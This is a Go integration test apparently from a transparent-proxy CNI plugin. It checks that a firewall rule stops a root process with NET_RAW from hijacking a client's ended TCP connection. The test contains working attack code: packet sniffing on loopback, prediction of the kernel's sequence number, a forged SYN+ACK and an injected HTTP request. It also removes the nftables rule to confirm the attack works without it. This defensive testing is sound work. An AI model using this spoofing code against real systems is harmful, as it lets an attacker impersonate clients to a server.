package integration

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"regexp"
	"runtime"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/tproxy-cni/tproxy-cni/integration/lab"
	"github.com/tproxy-cni/tproxy-cni/internal/contract"
)

// ghostArg is the first argument of a test binary that runs in a pod as root with
// NET_RAW and continues a client's connection that has ended.
const ghostArg = "ghost"

// ghostMain captures a spoofed leg of the client whose SYN the application's listener
// answers with a SYN cookie. When the leg has ended, the ghost binds its address and
// port and connects. Its SYN does not leave, but the kernel has chosen as its sequence
// number that of the socket in TIME_WAIT + 65537 (tcp_twsk_unique), so the SYN+ACK can
// be forged: from the pod's own address, marked, no SYN alone. Now connected, the ghost
// writes and closes: a socket without a descriptor has no uid. To the application this
// is the ACK of its cookie, which grows with the client's sequence number.
func ghostMain(args []string) {
	client := addrOf(args[0])
	ears, err := packetSocket("lo")
	if err == nil {
		err = onOneCPU()
	}
	if err != nil {
		fmt.Println(err)
		os.Exit(2)
	}
	fmt.Println("hears")
	var first, last, cookie segment
	ended := false // the leg's FIN is its last byte: what was heard before it would give another sequence number
	buf := make([]byte, 1<<16)
	hear := func() bool {
		n, _, err := unix.Recvfrom(ears, buf, 0)
		if err != nil || n < 14 {
			return false
		}
		s, err := parseSegment(buf[14:n])
		switch {
		case err != nil:
		case s.from.Addr() == client && s.flags&0x12 == 0x02:
			first = s
		case s.from == first.from && s.to == first.to:
			s.seq += uint32(len(s.data)) + uint32(s.flags&0x01)
			last, ended = s, ended || s.flags&0x01 != 0
		case s.to == first.from && s.from == first.to && s.flags&0x12 == 0x12:
			cookie = s
		}
		return true
	}
	for heard := true; heard || !ended; {
		heard = hear()
	}
	a := aim{Own: first.to.Addr(), Dst: client, src: client}
	fd := a.haunt(first)
	isn := last.seq + 65_537
	err = a.rawIP(segment{from: first.to, to: first.from, seq: cookie.seq + isn - first.seq, ack: isn + 1, flags: 0x12}.ip(), marked())
	fmt.Println("forged:", err, settle())
	if _, err := unix.Getpeername(fd); err != nil {
		fmt.Println("its SYN+ACK is not taken:", isn, "after", first, last, cookie)
	} else {
		_, err := unix.Write(fd, []byte("GET /ghost HTTP/1.0\r\n\r\n"))
		fmt.Println("connected, written:", err)
	}
	unix.Close(fd)
	fmt.Println("done")
}

// onOneCPU keeps this goroutine on one processor, so that what it sends over lo arrives in
// order: each processor has one queue for that.
func onOneCPU() error {
	runtime.LockOSThread()
	var cpus, one unix.CPUSet
	if err := unix.SchedGetaffinity(0, &cpus); err != nil {
		return err
	}
	for cpu := 0; one.Count() == 0; cpu++ {
		if cpus.IsSet(cpu) {
			one.Set(cpu)
		}
	}
	return unix.SchedSetaffinity(0, &one)
}

// settle returns when what was sent over lo before has arrived; see onOneCPU.
func settle() error {
	c, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := c.WriteTo([]byte("after"), c.LocalAddr()); err != nil {
		return err
	}
	_, _, err = c.ReadFrom(make([]byte, 16))
	return err
}

// haunt connects from a client's address and port, as soon as the kernel has
// released those of the last connection.
func (a aim) haunt(of segment) int {
	for {
		fd, err := unix.Socket(a.domain(), unix.SOCK_STREAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
		if err == nil {
			err = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
		}
		if err == nil {
			err = unix.Bind(fd, a.sockaddr(of.from.Addr(), int(of.from.Port())))
		}
		if err == nil {
			err = unix.Connect(fd, a.sockaddr(of.to.Addr(), int(of.to.Port())))
		}
		if errors.Is(err, unix.EINPROGRESS) {
			return fd
		}
		unix.Close(fd)
		if !errors.Is(err, unix.EADDRNOTAVAIL) {
			fmt.Println(err)
			os.Exit(2)
		}
	}
}

// TestGhost: root with NET_RAW cannot continue a client's connection where the
// application's listener uses SYN cookies; without the rule against it, it can.
func TestGhost(t *testing.T) {
	lab.Need(t, "curl")
	inModes(t, setup{}, func(t *testing.T, p *pod) {
		d, _ := p.nginx(t)
		p.Pod.Sysctl("net.ipv4.tcp_syncookies", "2")
		served := map[string]int{}
		haunted := func(t *testing.T, f family) (yes bool, said string) {
			ghost := p.hold(t, p.Pod, containerRoot(t).Args(attacker(t), ghostArg, f.client)...)
			ghost.WaitLog("hears")
			url := "http://" + netip.AddrPortFrom(addrOf(f.pod), webPort).String()
			// curl closes first, and then so does the sidecar.
			p.Client.Run("curl", "-sSfg", "--interface", f.client, url)
			served[f.client]++
			p.wantServedTimes(t, d, f.client, served[f.client])
			ghost.WaitLog("done")
			if said = ghost.Output(); !strings.Contains(said, "connected, written") {
				return false, said
			}
			served[f.client]++
			p.wantServedTimes(t, d, f.client, served[f.client])
			return true, said
		}
		p.inFamilies(t, func(t *testing.T, f family) {
			if yes, said := haunted(t, f); yes {
				t.Errorf("the application served a ghost:\n%s", said)
			}
		})
		list := p.Pod.Run("nft", "-a", "list", "chain", "inet", contract.Table, "loopback")
		rule := regexp.MustCompile(`socket wildcard .* handle (\d+)`).FindStringSubmatch(list)
		if rule == nil {
			t.Fatalf("no rule about sockets in %s", list)
		}
		p.Pod.Run("nft", "delete", "rule", "inet", contract.Table, "loopback", "handle", rule[1])
		p.inFamilies(t, func(t *testing.T, f family) {
			if yes, said := haunted(t, f); !yes {
				t.Errorf("the attack fails without the rule, too:\n%s", said)
			}
		})
	})
}

// wantServedTimes waits until nginx has served an address so many times.
func (p *pod) wantServedTimes(t *testing.T, dir, from string, times int) {
	t.Helper()
	lab.Eventually(t, "nginx has served "+from, func() error {
		log := accessLog(t, dir)
		if n := strings.Count("\n"+log, "\n"+from+" "); n != times {
			return fmt.Errorf("%d times:\n%s", n, log)
		}
		return nil
	})
}
